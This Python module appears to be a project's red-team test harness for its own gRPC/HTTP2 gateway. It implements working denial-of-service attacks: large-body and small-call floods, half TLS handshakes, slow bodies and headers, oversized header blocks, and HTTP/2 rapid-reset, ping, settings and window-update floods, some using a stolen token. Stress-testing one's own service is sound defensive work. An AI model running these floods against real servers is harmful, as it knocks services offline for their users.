"""`python -m tests.redteam.hostile ATTACK SECONDS`: one way to use a gateway up, in a process of its own.

Reads a `Target` and words of the attack's as JSON from its input; writes what became of it, in words.
"""

import asyncio
import base64
import contextlib
import json
import resource
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from typing import Any

import grpc
import grpc.aio

from tests.redteam.http2 import (
    CANCEL,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Connection,
    frame,
    headers,
    message,
    trusting,
)
from tests.redteam.probe import INFO, OWN, Target

ENROL = "/coffer.gateway.v1.Identity/Enrol"
ANSWER = "/temporal.api.workflowservice.v1.WorkflowService/"
MANY = 20  # connections
AT_ONCE = 60  # calls of one
LARGE = 2_000_000
Attack = Callable[["Raid"], Awaitable[None]]


class Raid:
    """An attack under way: whom it is for, until when, and what became of it."""

    def __init__(self, target: Target, words: dict[str, str], seconds: float) -> None:
        self.target = target
        self.words = words
        self.until = time.monotonic() + seconds
        self.seen: Counter[str] = Counter()
        self.host, _, port = target.address.rpartition(":")
        self.port = int(port)

    @property
    def is_over(self) -> bool:
        """Whether the time is over."""
        return time.monotonic() > self.until

    async def calls(self, path: str, body: bytes, *, connections: int, at_once: int, token: str | None) -> None:
        """Call without a pause, as a client of gRPC does."""
        metadata = (("authorization", f"Bearer {token}"),) if token else ()
        trust = grpc.ssl_channel_credentials(self.target.ca.encode())
        channels = [grpc.aio.secure_channel(self.target.address, trust, OWN) for _ in range(connections)]

        async def call(each: grpc.aio.Channel) -> None:
            method: Any = each.unary_unary(path)
            while not self.is_over:
                try:
                    await method(body, timeout=3, metadata=metadata)
                    self.seen["OK"] += 1
                except grpc.aio.AioRpcError as error:
                    self.seen[error.code().name] += 1
                    await asyncio.sleep(0.001)

        await asyncio.gather(*(call(each) for each in channels for _ in range(at_once)))
        await asyncio.gather(*(each.close() for each in channels))

    @asynccontextmanager
    async def connected(self) -> AsyncIterator[Connection]:
        """A connection for frames made by hand."""
        reader, writer = await asyncio.open_connection(self.host, self.port, ssl=trusting(self.target.ca))
        connection = Connection(reader, writer)
        try:
            await connection.send(PREFACE, frame(SETTINGS, 0, 0))
            yield connection
        finally:
            connection.cut()
            await connection.closed

    async def again(self, once: Callable[[], Awaitable[None]]) -> None:
        """Do it until the time is over, whatever comes of it."""
        while not self.is_over:
            try:
                async with asyncio.timeout(max(0.1, self.until - time.monotonic())):
                    await once()
                self.seen["done"] += 1
            except (OSError, ssl.SSLError, TimeoutError, asyncio.IncompleteReadError):
                self.seen["cut"] += 1
                await asyncio.sleep(0.01)

    async def crowd(self, number: int, once: Callable[[], Awaitable[None]]) -> None:
        """Many do it."""
        await asyncio.gather(*(self.again(once) for _ in range(number)))


# -- strangers ---------------------------------------------------------------------------------------------------------


async def large_enrolments(raid: Raid) -> None:
    """Bodies of 2 MB in the one call that needs no token."""
    await raid.calls(ENROL, bytes(LARGE), connections=MANY, at_once=AT_ONCE, token="x")


async def large_calls(raid: Raid) -> None:
    """The same of another method, without a token."""
    await raid.calls(INFO, bytes(LARGE), connections=MANY, at_once=AT_ONCE, token=None)


async def medium_enrolments(raid: Raid) -> None:
    """Bodies that are just let in, over many connections."""
    await raid.calls(ENROL, bytes(60_000), connections=60, at_once=AT_ONCE, token="x")


async def small_calls(raid: Raid) -> None:
    """As many calls as possible with a token that is nobody's."""
    await raid.calls(INFO, b"", connections=MANY, at_once=AT_ONCE, token="00000000-0000-4000-8000-000000000000.x")


async def many_connections(raid: Raid) -> None:
    """Finish TLS, and say nothing."""

    async def once() -> None:
        async with raid.connected() as connection:
            await connection.closed

    await raid.crowd(400, once)


async def half_handshakes(raid: Raid) -> None:
    """Begin TLS, and say nothing more."""

    async def once() -> None:
        reader, writer = await asyncio.open_connection(raid.host, raid.port)
        writer.write(b"\x16\x03\x01\x02\x00\x01")
        with contextlib.suppress(OSError):
            await reader.read()
        writer.transport.abort()

    await raid.crowd(1500, once)


async def handshakes(raid: Raid) -> None:
    """Connect and leave, as often as possible."""

    async def once() -> None:
        async with raid.connected():
            pass

    await raid.crowd(50, once)


async def slow_bodies(raid: Raid) -> None:
    """Announce a body, and send it byte by byte, on many streams of many connections."""

    async def once() -> None:
        async with raid.connected() as connection:
            streams = [connection.open(ENROL, "x") for _ in range(30)]
            await connection.send(*(opening for _, opening in streams))
            await connection.send(*(frame(DATA, 0, number, message(bytes(4000))[:5]) for number, _ in streams))
            while not connection.told_to_go():
                await connection.send(*(frame(DATA, 0, number, b"\0") for number, _ in streams))
                await asyncio.sleep(0.5)

    await raid.crowd(100, once)


async def slow_headers(raid: Raid) -> None:
    """A block of headers that does not end: a byte a time in frames of its own."""

    async def once() -> None:
        async with raid.connected() as connection:
            block = headers(INFO, "x" * 4000)
            await connection.send(frame(HEADERS, 0, 1, block[:1]))
            for each in block[1:]:
                await connection.send(frame(9, 0, 1, bytes([each])))
                await asyncio.sleep(0.05)

    await raid.crowd(100, once)


async def large_headers(raid: Raid) -> None:
    """A megabyte of headers for one call."""

    async def once() -> None:
        async with raid.connected() as connection:
            piece = b"\0" + b"\x01x" + b"\x7f\x81\x7f" + b"y" * 16_256
            await connection.send(frame(HEADERS, 0, 1, headers(INFO, None)))
            for _ in range(64):
                await connection.send(frame(9, 0, 1, piece))

    await raid.crowd(50, once)


# -- by whoever has a token, or has none -------------------------------------------------------------------------------


def frames_without_end(make: Callable[[Raid, Connection], bytes], number: int) -> Attack:
    """Frames as fast as they are taken, on so many connections."""

    async def attack(raid: Raid) -> None:
        async def once() -> None:
            async with raid.connected() as connection:
                while not connection.told_to_go() and not raid.is_over:
                    await connection.send(make(raid, connection))
                    raid.seen["sent"] += 1
                    await asyncio.sleep(0)

        await raid.crowd(number, once)

    return attack


def _resets(raid: Raid, connection: Connection) -> bytes:
    said = b""
    for _ in range(50):
        number, opening = connection.open(INFO, raid.target.token)
        said += opening + frame(RST_STREAM, 0, number, CANCEL)
    return said


def _pings(raid: Raid, connection: Connection) -> bytes:
    return frame(PING, 0, 0, b"12345678") * 100


def _settings(raid: Raid, connection: Connection) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65_535)) * 100


def _empty_data(raid: Raid, connection: Connection) -> bytes:
    said = b""
    if not getattr(connection, "opened", 0):
        connection.opened, said = connection.open(INFO, raid.target.token)  # type: ignore[attr-defined]
    return said + frame(DATA, 0, connection.opened) * 100  # type: ignore[attr-defined]


def _windows(raid: Raid, connection: Connection) -> bytes:
    return frame(8, 0, 0, struct.pack("!I", 1)) * 100


def _headers(raid: Raid, connection: Connection) -> bytes:
    said = headers(INFO, raid.target.token, **{f"x_{number}": "y" for number in range(300)})
    return b"".join(frame(HEADERS, END_HEADERS | 1, connection.open(INFO)[0], said) for _ in range(3))


# -- a stolen guest ----------------------------------------------------------------------------------------------------


async def answers(raid: Raid) -> None:
    """Answer with the body that was given, 16 calls open on four connections, as the limits allow."""
    body, rpc = base64.b64decode(raid.words["body"]), raid.words["rpc"]
    await raid.calls(f"{ANSWER}{rpc}", body, connections=4, at_once=4, token=raid.target.token)


async def large_answers(raid: Raid) -> None:
    """2 MB each, over many connections."""
    await raid.calls(f"{ANSWER}RespondActivityTaskCompleted", bytes(LARGE), connections=MANY, at_once=AT_ONCE,
                     token=raid.target.token)  # fmt: skip


async def calls_of_a_guest(raid: Raid) -> None:
    """Small calls, beyond all limits."""
    await raid.calls(INFO, b"", connections=MANY, at_once=AT_ONCE, token=raid.target.token)


ATTACKS: dict[str, Attack] = {
    each.__name__: each
    for each in (large_enrolments, large_calls, medium_enrolments, small_calls, many_connections, half_handshakes,
                 handshakes, slow_bodies, slow_headers, large_headers, answers, large_answers, calls_of_a_guest)
} | {
    "resets": frames_without_end(_resets, 8), "pings": frames_without_end(_pings, 20),
    "settings": frames_without_end(_settings, 20), "empty_data": frames_without_end(_empty_data, 8),
    "windows": frames_without_end(_windows, 20), "many_headers": frames_without_end(_headers, 8),
}  # fmt: skip


async def _run(attack: Attack, raid: Raid) -> None:
    await attack(raid)


def main() -> None:
    """Attack."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    said = json.loads(sys.stdin.readline())
    raid = Raid(Target(**said["target"]), said["words"], float(sys.argv[2]))
    asyncio.run(_run(ATTACKS[sys.argv[1]], raid))
    sys.stdout.write(", ".join(f"{number} {what}" for what, number in raid.seen.most_common(4)) or "nothing")


if __name__ == "__main__":
    main()
